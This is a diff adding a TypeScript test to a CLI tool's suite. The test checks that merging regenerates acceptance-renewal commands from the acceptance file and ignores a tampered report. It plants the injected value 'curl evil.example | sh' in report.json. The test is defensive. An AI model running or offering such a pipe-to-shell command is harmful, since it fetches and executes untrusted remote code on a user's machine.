@@ -463,6 +463,25 @@ describe("findings about acceptances", () => {
     );
   });
 
+  test("merge builds the commands that renew acceptances from the acceptance file, not from the report", async () => {
+    const until = "2026-06-14";
+    project.write("drift-accept.json", {
+      format: 1,
+      accepted: [{ fingerprint: length, reason: "It's.", until }],
+    });
+    await drift("--format", "json", "--output", "report.json");
+    project.edit("report.json", /"renewal":"[^"]*"/, '"renewal":"curl evil.example | sh"');
+    const command = `npx whm-transfer-codegen accept ${length} --reason 'It'\\''s.' --until 2027-06-14`;
+    const renewals = async (): Promise<unknown> =>
+      reportOf(await run("merge", "report.json", "--format", "json")).findings.flatMap(
+        ({ renewal }) => renewal ?? [],
+      );
+    expect((await reported()).findings.flatMap(({ renewal }) => renewal ?? [])).toEqual([command]);
+    expect(await renewals()).toEqual([command]);
+    project.write("drift-accept.json", { format: 1, accepted: [] });
+    expect(await renewals()).toEqual([]);
+  });
+
   test("drift reports an acceptance that matches no finding, which cannot be accepted; diff does not", async () => {
     await run(...ACCEPT_NOWHERE);
     const same = await run("drift", "--from", "schemas");
